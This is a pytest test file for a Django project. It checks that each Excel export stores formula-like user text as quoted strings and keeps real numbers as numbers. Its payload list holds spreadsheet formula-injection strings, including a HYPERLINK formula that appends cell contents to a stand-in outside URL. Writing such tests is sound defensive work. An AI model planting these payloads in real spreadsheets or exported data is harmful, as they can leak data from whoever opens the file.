"""Excel formula injection (issue 14, item 1): every export writes text that starts like a
formula as text — a string cell with Excel's quote prefix, shown exactly as typed — and never
as a formula; real numbers (a negative amount) stay numbers.

Each export URL of the project is downloaded with the payloads planted in the user-editable text
fields it lists, and read back with openpyxl."""

import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from agreements.choices import FundingKind
from agreements.models import Base, FundingEntry, Partner
from applications import services as application_services
from applications.models import BaseApplication
from evaluation import services as evaluation_services
from evaluation.choices import RoundKind
from tests.conftest import make_user
from tests.practice.factories import active_base
from xcu_bases.choices import RoleCode as R
from xcu_bases.exports import ListExporter, guard_workbook, write_xlsx
from xcu_bases.models import College

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://x?"&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",  # full-width: Excel's Chinese input makes it "=" when the cell is edited
)


def workbook_of(response):
    assert response.status_code == 200, response.status_code
    content = getattr(response, "streaming_content", None)
    data = b"".join(content) if content is not None else response.content
    return load_workbook(io.BytesIO(data))


def cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_typed_text(book, planted=PAYLOADS):
    """No cell is a formula; each planted value is a cell holding exactly what was typed, as a
    string with the quote prefix."""
    all_cells = cells(book)
    formulas = [(c.coordinate, c.value) for c in all_cells if c.data_type == "f"]
    assert formulas == []
    by_value = {}
    for cell in all_cells:
        by_value.setdefault(cell.value, []).append(cell)
    for value in planted:
        assert value in by_value, f"{value!r} is not shown as typed"
        for cell in by_value[value]:
            assert cell.data_type == "s" and cell.quotePrefix, (value, cell.coordinate)


@pytest.fixture
def office(db):
    return make_user("office", R.GRADUATE_OFFICE, name="罗晓梅")


def login(client, user):
    client.force_login(user)
    return client


# --- the shared writer --------------------------------------------------------------------


class Rows(ListExporter):
    title = "测试"
    headers = ("文字", "金额", "数量", "日期")

    def iter_rows(self):
        yield from ((text, Decimal("-2500.50"), -3, date(2026, 1, 2)) for text in PAYLOADS)
        yield ("普通文字", -0.5, 0, None)


def test_the_writer_keeps_formula_like_text_as_typed_and_numbers_as_numbers():
    buffer = io.BytesIO()
    write_xlsx(Rows(), buffer)
    buffer.seek(0)
    book = load_workbook(buffer)
    assert_typed_text(book)
    rows = list(book.active.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [*PAYLOADS, "普通文字"]
    for row in rows:
        assert row[1].data_type == "n" and row[1].value < 0  # a negative amount stays a number
        assert row[2].data_type == "n"
    assert rows[0][1].value == -2500.5
    assert rows[-1][0].quotePrefix is False  # ordinary text is left alone


def test_a_workbook_built_by_hand_is_guarded_the_same_way():
    book = Workbook()
    book.active.append(["=1+1", "@A1", -7, "西昌"])
    guard_workbook(book)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [c.value for c in row] == ["=1+1", "@A1", -7, "西昌"]
    assert [c.data_type for c in row] == ["s", "s", "n", "s"]


def test_no_exporter_builds_its_own_workbook_without_the_guard():
    """Every module that creates an openpyxl Workbook goes through xcu_bases.exports."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for app in ("applications", "agreements", "practice", "evaluation", "xcu_bases"):
        for path in (root / app).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "Workbook(" in text and path.name != "exports.py" and "guard_workbook(" not in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


# --- every export URL -----------------------------------------------------------------------


def test_applications_export_writes_planted_formulas_as_text(client, office, college_a):
    secretary = make_user("secretary_a", R.COLLEGE_SECRETARY, college=college_a)
    for i, payload in enumerate(PAYLOADS):
        app = application_services.application_create(by=secretary)
        BaseApplication.objects.filter(pk=app.pk).update(
            base_name=payload,
            partner_name=PAYLOADS[(i + 1) % len(PAYLOADS)],
            person_in_charge=PAYLOADS[(i + 2) % len(PAYLOADS)],
            contact_phone=payload[:20],
        )
    book = workbook_of(login(client, office).get(reverse("applications:export")))
    assert_typed_text(book)
    assert book.active.max_row == len(PAYLOADS) + 1


def test_agreements_registry_export_writes_planted_formulas_as_text(client, office, college_a):
    for i, payload in enumerate(PAYLOADS):
        base = active_base(college_a, office)
        Base.objects.filter(pk=base.pk).update(
            name=payload, inspector_legacy=PAYLOADS[(i + 1) % len(PAYLOADS)][:50]
        )
        Partner.objects.filter(pk=base.partner_id).update(
            name=f"{payload}{i}",
            address=PAYLOADS[(i + 3) % len(PAYLOADS)],
        )
    # A spending entry: the ledger column stays a number.
    FundingEntry.objects.create(
        base=Base.objects.first(), kind=FundingKind.SPENDING, amount=Decimal("2500.50"),
        entry_date=date(2025, 3, 1), description="实践耗材", recorded_by=office,
    )  # fmt: skip
    book = workbook_of(login(client, office).get(reverse("agreements:base_export")))
    assert_typed_text(book)
    assert_typed_text(book, [f"{p}{i}" for i, p in enumerate(PAYLOADS)])  # partner names
    header = [c.value for c in next(book.active.iter_rows())]
    spent = [row[header.index("已支出(元)")] for row in book.active.iter_rows(min_row=2)]
    assert {c.data_type for c in spent} == {"n"} and 2500.5 in [c.value for c in spent]


def test_agreements_import_template_writes_college_names_as_text(client, office):
    College.objects.create(code="93", name="=1+1")
    College.objects.create(code="94", name="@SUM(A1)")
    book = workbook_of(login(client, office).get(reverse("agreements:import_template")))
    assert_typed_text(book, ["=1+1", "@SUM(A1)"])


def test_evaluation_results_export_writes_planted_formulas_as_text(client, office, college_a):
    bases = [active_base(college_a, office) for _ in PAYLOADS]
    for base, payload in zip(bases, PAYLOADS, strict=True):
        Base.objects.filter(pk=base.pk).update(name=payload)
    expert = make_user("expert", R.EXPERT, name="-王建国")
    standard = evaluation_services.standard_create(year=2026, by=office)
    evaluation_round = evaluation_services.round_open(
        year=2026, kind=RoundKind.YEARLY, standard=standard, deadline=date(2026, 12, 20),
        bases=Base.objects.filter(pk__in=[b.pk for b in bases]), by=office,
    )  # fmt: skip
    evaluation_services.experts_assign(
        evaluation=evaluation_round.evaluations.first(), experts=[expert], by=office
    )
    url = reverse("evaluation:round_export", args=[evaluation_round.pk])
    book = workbook_of(login(client, office).get(url))
    assert_typed_text(book, [*PAYLOADS, "-王建国"])
